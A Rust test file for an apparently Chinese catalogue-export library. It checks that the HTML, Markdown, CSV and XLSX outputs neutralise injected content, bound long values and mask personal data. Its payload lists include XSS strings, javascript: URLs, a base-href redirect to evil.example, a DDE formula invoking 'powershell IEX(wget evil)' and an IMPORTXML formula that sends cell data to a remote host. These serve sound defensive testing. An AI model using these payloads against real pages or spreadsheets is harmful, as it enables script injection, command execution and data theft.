//! Safe output, beyond what the exporters' own tests check (`export_html.rs` tokenises the page
//! strictly; `export_csv.rs`/`export_xlsx.rs` check the formula guard with FORMULA_PAYLOADS):
//!
//! - a longer XSS list through `to_html`, read back by an HTML5 parser (html5ever, as a browser
//!   would): no element or attribute comes from the data, every payload is shown as text;
//! - the same list through `to_markdown`: nothing a CommonMark/GFM renderer would turn into HTML,
//!   a link or an autolink;
//! - more formula shapes through CSV and XLSX;
//! - a 1 MB value never makes a message, a param or an error text longer than a bounded excerpt;
//! - `Options::mask_values` masks personal data in the report.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod export_support;

use export_support::{XSS_PAYLOADS, fixture, with_payload};
use gongkai::export::cells::{FORMULA_TRIGGERS, strip_formula_guard};
use gongkai::export::{CsvOptions, HtmlOptions, to_csv, to_html, to_markdown};
use gongkai::{Catalogue, MAX_PARAM_CHARS, Options, Validator};

/// Payloads for HTML and Markdown, beyond `XSS_PAYLOADS`: event handlers, URLs, parser
/// differentials (mXSS), closing the raw-text elements the page uses, Markdown links.
const MORE_XSS: &[&str] = &[
    "<svg/onload=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "jav&#x09;ascript:alert(1)",
    "javascript&colon;alert(1)",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</caption></table><img src=x onerror=alert(1)>",
    "<!--",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<base href=\"//evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<img src=x onerror=alert(1)//",
    "<scr<script>ipt>alert(1)</script>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<td>injected</td></tr><tr><th>row</th>",
    "[点我](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "<https://evil.example>",
    "www.evil.example",
    "admin@evil.example",
    "[x]: javascript:alert(1)",
    "`<script>`",
    "\u{2028}<script>\u{2029}",
];

fn payloads() -> impl Iterator<Item = &'static str> {
    XSS_PAYLOADS.iter().chain(MORE_XSS).copied()
}

const TAGS: &[&str] = &[
    "html", "head", "meta", "title", "style", "body", "main", "header", "h1", "dl", "div", "dt",
    "dd", "table", "caption", "thead", "tbody", "tr", "th", "td", "ul", "li", "br", "footer",
];

/// The exporter's own attributes and the values they can take (`*`: any value, for the two
/// attributes that hold text: the title in `aria-label`, the viewport in `content`).
const ATTRIBUTES: &[(&str, &[&str])] = &[
    ("lang", &["zh-CN"]),
    ("charset", &["utf-8"]),
    ("name", &["viewport"]),
    ("content", &["*"]),
    (
        "class",
        &[
            "meta",
            "table-wrap",
            "category",
            "tick",
            "id",
            "channels",
            "on",
            "off",
        ],
    ),
    ("role", &["region"]),
    ("aria-label", &["*"]),
    ("tabindex", &["0"]),
    ("scope", &["col", "colgroup", "row", "rowgroup"]),
    ("colspan", &["#"]),
    ("rowspan", &["#"]),
];

/// Parses the page as a browser would and checks every element and attribute.
fn assert_page_is_ours(html: &str, payload: &str) {
    let doc = gongkai::import::dom::Dom::parse(html);
    let mut elements = 0;
    for node in doc.nodes.iter() {
        let Some(el) = (node.kind == gongkai::import::dom::Kind::Element).then_some(node) else {
            continue;
        };
        elements += 1;
        assert!(
            TAGS.contains(&el.name()),
            "{payload:?}: element <{}> in the page",
            el.name()
        );
        for (k, v) in el.attrs() {
            let allowed = ATTRIBUTES
                .iter()
                .find(|(name, _)| *name == k)
                .unwrap_or_else(|| panic!("{payload:?}: attribute {k}={v:?} on <{}>", el.name()))
                .1;
            let ok = allowed.contains(&"*")
                || allowed.contains(&v)
                || (allowed.contains(&"#") && v.bytes().all(|b| b.is_ascii_digit()));
            assert!(ok, "{payload:?}: {k}={v:?} on <{}>", el.name());
        }
    }
    assert!(elements > 100);
}

#[test]
fn xss_payloads_through_the_html_export_stay_text() {
    let baseline = {
        let doc =
            gongkai::import::dom::Dom::parse(&to_html(&with_payload("x"), &HtmlOptions::default()));
        doc.nodes
            .iter()
            .filter(|n| n.kind == gongkai::import::dom::Kind::Element && n.name() != "br")
            .count()
    };
    for payload in payloads() {
        let cat = with_payload(payload);
        for mask in [false, true] {
            let html = to_html(&cat, &HtmlOptions::default().mask(mask));
            assert_page_is_ours(&html, payload);
            let doc = gongkai::import::dom::Dom::parse(&html);
            // The same elements as with a harmless text (a separator in the data may number
            // the 公开内容 cell, adding a line break).
            let elements = doc
                .nodes
                .iter()
                .filter(|n| n.kind == gongkai::import::dom::Kind::Element && n.name() != "br")
                .count();
            assert_eq!(elements, baseline, "{payload:?}: elements added");
            if !mask {
                // The payload is shown, as text, in the cells that hold it.
                let shown = doc
                    .nodes
                    .iter()
                    .filter_map(|n| match &n.kind {
                        gongkai::import::dom::Kind::Text(t) => Some(t),
                        _ => None,
                    })
                    .filter(|t| t.contains(payload))
                    .count();
                assert!(
                    shown >= 8 * cat.items.len(),
                    "{payload:?} shown {shown} times"
                );
            }
        }
    }
}

/// Whether the character at byte `i` of `line` has an odd number of backslashes before it.
fn escaped(line: &str, i: usize) -> bool {
    line[..i].bytes().rev().take_while(|b| *b == b'\\').count() % 2 == 1
}

#[test]
fn xss_payloads_through_the_markdown_export_stay_text() {
    for payload in payloads() {
        let md = to_markdown(&with_payload(payload));
        // No HTML but the exporter's own <br>.
        assert!(!md.replace("<br>", "").contains(['<', '>']), "{payload:?}");
        for line in md.lines() {
            if line.starts_with("| :-:") || line.starts_with("| ---") {
                continue; // the alignment row
            }
            // Links, images, code spans, emphasis, autolinks (`:` of a scheme, `@` of an
            // address, `www.`) need one of these unescaped.
            for (i, c) in line.char_indices() {
                if "[]`*_~@:".contains(c) {
                    assert!(escaped(line, i), "{payload:?}: unescaped {c:?} in {line}");
                }
            }
            assert!(!line.contains("www."), "{payload:?}: {line}");
            // A character reference written in the data shows as written.
            assert!(!line.contains("&#"), "{payload:?}: {line}");
        }
    }
}

/// Formula shapes `FORMULA_PAYLOADS` does not have: lone triggers, CR LF, apostrophes already
/// in front, a full-width sign (not a formula for Excel, left alone), DDE with arguments.
const MORE_FORMULAS: &[&str] = &[
    "=",
    "+",
    "-",
    "@",
    "\r\n=1",
    "'=1+1",
    "''@x",
    "=cmd|' /C powershell IEX(wget evil)'!A0",
    "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")",
    "-1",
    "+86 138 0013 8000",
];

fn csv_cells(bytes: &[u8]) -> Vec<String> {
    let text = std::str::from_utf8(bytes).unwrap();
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    r.records()
        .flat_map(|x| x.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

#[test]
fn more_formula_shapes_are_guarded_in_csv_and_xlsx() {
    for payload in MORE_FORMULAS.iter().copied().chain(["＝1+1"]) {
        let cat = with_payload(payload);
        let cells = csv_cells(&to_csv(&cat, &CsvOptions::default()));
        #[cfg(feature = "xlsx")]
        let cells = {
            use calamine::{Reader, Xlsx};
            let bytes = gongkai::export::to_xlsx(&cat, &Default::default()).unwrap();
            let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
            let mut all = cells;
            for name in book.sheet_names() {
                let formulas = book.worksheet_formula(&name).unwrap();
                assert!(
                    formulas.used_cells().all(|(_, _, f)| f.is_empty()),
                    "{payload:?}: a formula in {name}"
                );
                let range = book.worksheet_range(&name).unwrap();
                all.extend(range.used_cells().map(|(_, _, v)| v.to_string()));
            }
            all
        };
        let mut found = 0;
        for cell in &cells {
            assert!(
                !cell.starts_with(FORMULA_TRIGGERS.as_slice()),
                "{payload:?}: unguarded cell {cell:?}"
            );
            found += usize::from(strip_formula_guard(cell) == payload);
        }
        assert!(found > 0, "{payload:?} not written");
    }
}

/// A 1 MB value.
fn mega() -> String {
    "联系人：张三13800138000；".repeat(1024 * 1024 / 40)
}

#[test]
fn a_megabyte_value_is_never_echoed_in_full() {
    let big = mega();
    let v = [
        Validator::default(),
        Validator::new(Options::default().lang(gongkai::Lang::En)),
    ];
    // Into every kind of field: free text, code lists, enums, dates, a key.
    let mut docs = Vec::new();
    for (pointer, value) in [
        ("/title", serde_json::json!(big)),
        ("/level", serde_json::json!(big)),
        ("/issued", serde_json::json!(big)),
        ("/domain", serde_json::json!(big)),
        ("/items/0/id", serde_json::json!(big)),
        ("/items/0/name", serde_json::json!(big)),
        ("/items/0/channels", serde_json::json!([big])),
        ("/items/0/time_limit/kind", serde_json::json!(big)),
        (
            "/items/0/time_limit",
            serde_json::json!({"kind": "unparsed", "text": big}),
        ),
        ("/items/0/basis/0/title", serde_json::json!(big)),
        ("/items/1/subject", serde_json::json!(big)),
        ("/items/1/levels", serde_json::json!(big)),
    ] {
        let mut d: serde_json::Value = serde_json::from_slice(export_support::FIXTURE).unwrap();
        *d.pointer_mut(pointer).unwrap() = value;
        docs.push((pointer.to_owned(), serde_json::to_vec(&d).unwrap()));
    }
    let mut d: serde_json::Value = serde_json::from_slice(export_support::FIXTURE).unwrap();
    d["items"][0][big.as_str()] = serde_json::json!(1);
    docs.push(("a 1 MB key".to_owned(), serde_json::to_vec(&d).unwrap()));
    for (what, bytes) in &docs {
        for v in &v {
            let r = v.validate_json(bytes).unwrap();
            for i in &r.issues {
                assert!(
                    i.message.chars().count() < 1_000,
                    "{what}: {} message of {} characters",
                    i.code,
                    i.message.chars().count()
                );
                for p in i.params.values() {
                    assert!(
                        p.chars().count() <= MAX_PARAM_CHARS + 1,
                        "{what}: {}",
                        i.code
                    );
                }
            }
            // The report holds the value at most once (the path of the key), however many
            // issues name the item.
            assert!(r.to_json().len() < 2 * big.len(), "{what}");
        }
        // The strict reader (convert, diff) and the diff loader say what is wrong briefly.
        for e in [
            Catalogue::from_json(bytes).err(),
            gongkai::import::load(
                bytes,
                &gongkai::import::ImportOptions::default().file_name("x.json"),
            )
            .err(),
        ]
        .into_iter()
        .flatten()
        {
            let n = e.to_string().chars().count();
            assert!(n < 1_000, "{what}: error of {n} characters");
        }
    }
    // Tables: a 1 MB header, a 1 MB 序号 and a 1 MB unparsed time limit (cells are cut at
    // 64 KiB; raise the cut to 4 MB to see the messages' own bound).
    let q = big.replace('"', "\"\"");
    let csv = format!(
        "序号,二级事项,公开内容,公开依据,公开时限,公开主体,\"{q}\"\n\"{q}\",事项,条件,《条例》,\"{q}\",城管局,x\n"
    );
    let opts = gongkai::import::ImportOptions::default().max_cell_bytes(4 << 20);
    let imp = gongkai::import::import_csv(csv.as_bytes(), &opts).unwrap();
    let r =
        Validator::default().validate_imported(&imp.catalogue, Some(&imp.sources), &imp.findings);
    for i in &r.issues {
        assert!(i.message.chars().count() < 1_000, "{}", i.code);
    }
    // Errors of the audit and calendar readers.
    let records = format!("item_id,formed_on,published_on\n1,{big},{big}\n");
    let a = gongkai::audit::read_records(records.as_bytes(), None).unwrap();
    for i in &a.issues {
        assert!(i.message.chars().count() < 1_000, "{}", i.code);
    }
    let e = gongkai::calendar::Calendar::from_csv(&format!("date,kind\n{big},off\n")).unwrap_err();
    assert!(e.to_string().chars().count() < 1_000);
}

/// A catalogue whose item 0 breaks a rule and carries personal data in its name and notes.
fn personal() -> Catalogue<'static> {
    let mut cat = fixture();
    cat.items[0].name = "联系人：张三 13800138000 的燃气经营许可".into();
    cat.items[0].channels.clear(); // proactive without the website: an error naming the item
    cat
}

#[test]
fn the_report_can_be_masked() {
    let cat = personal();
    let plain = Validator::default().validate(&cat);
    let json = plain.to_json();
    assert!(
        json.contains("13800138000") && json.contains("张三"),
        "{json}"
    );
    for lang in [gongkai::Lang::Zh, gongkai::Lang::En] {
        let v = Validator::new(Options::default().lang(lang).mask_values(true));
        let masked = v.validate(&cat);
        // The same issues, at the same places, with the same verdict…
        assert_eq!(masked.valid, plain.valid);
        let key = |r: &gongkai::Report| -> Vec<(String, String)> {
            r.issues
                .iter()
                .map(|i| (i.code.to_string(), i.path.clone()))
                .collect()
        };
        assert_eq!(key(&masked), key(&plain));
        // …without the phone number or the name.
        let json = masked.to_json();
        assert!(!json.contains("13800138000"), "{json}");
        assert!(!json.contains("张三"), "{json}");
        assert!(json.contains("联系人：＊＊"), "{json}");
    }
    // Row numbers are not personal data: a finding about row 123456 keeps it.
    let mut csv = String::from("序号,二级事项,公开内容,公开依据,公开时限,公开主体\n");
    csv.push_str(&"\n".repeat(123_454));
    csv.push_str("1,联系人：李四13912345678,条件,《条例》,二十天左右吧,城管局\n");
    let imp = gongkai::import::import_csv(csv.as_bytes(), &Default::default()).unwrap();
    let v = Validator::new(Options::default().mask_values(true));
    let r = v.validate_imported(&imp.catalogue, Some(&imp.sources), &imp.findings);
    let json = r.to_json();
    assert!(
        !json.contains("13912345678") && !json.contains("李四"),
        "{json}"
    );
    assert!(
        r.issues
            .iter()
            .any(|i| i.location.as_ref().is_some_and(|l| l.row == 123_456)),
        "{json}"
    );
}
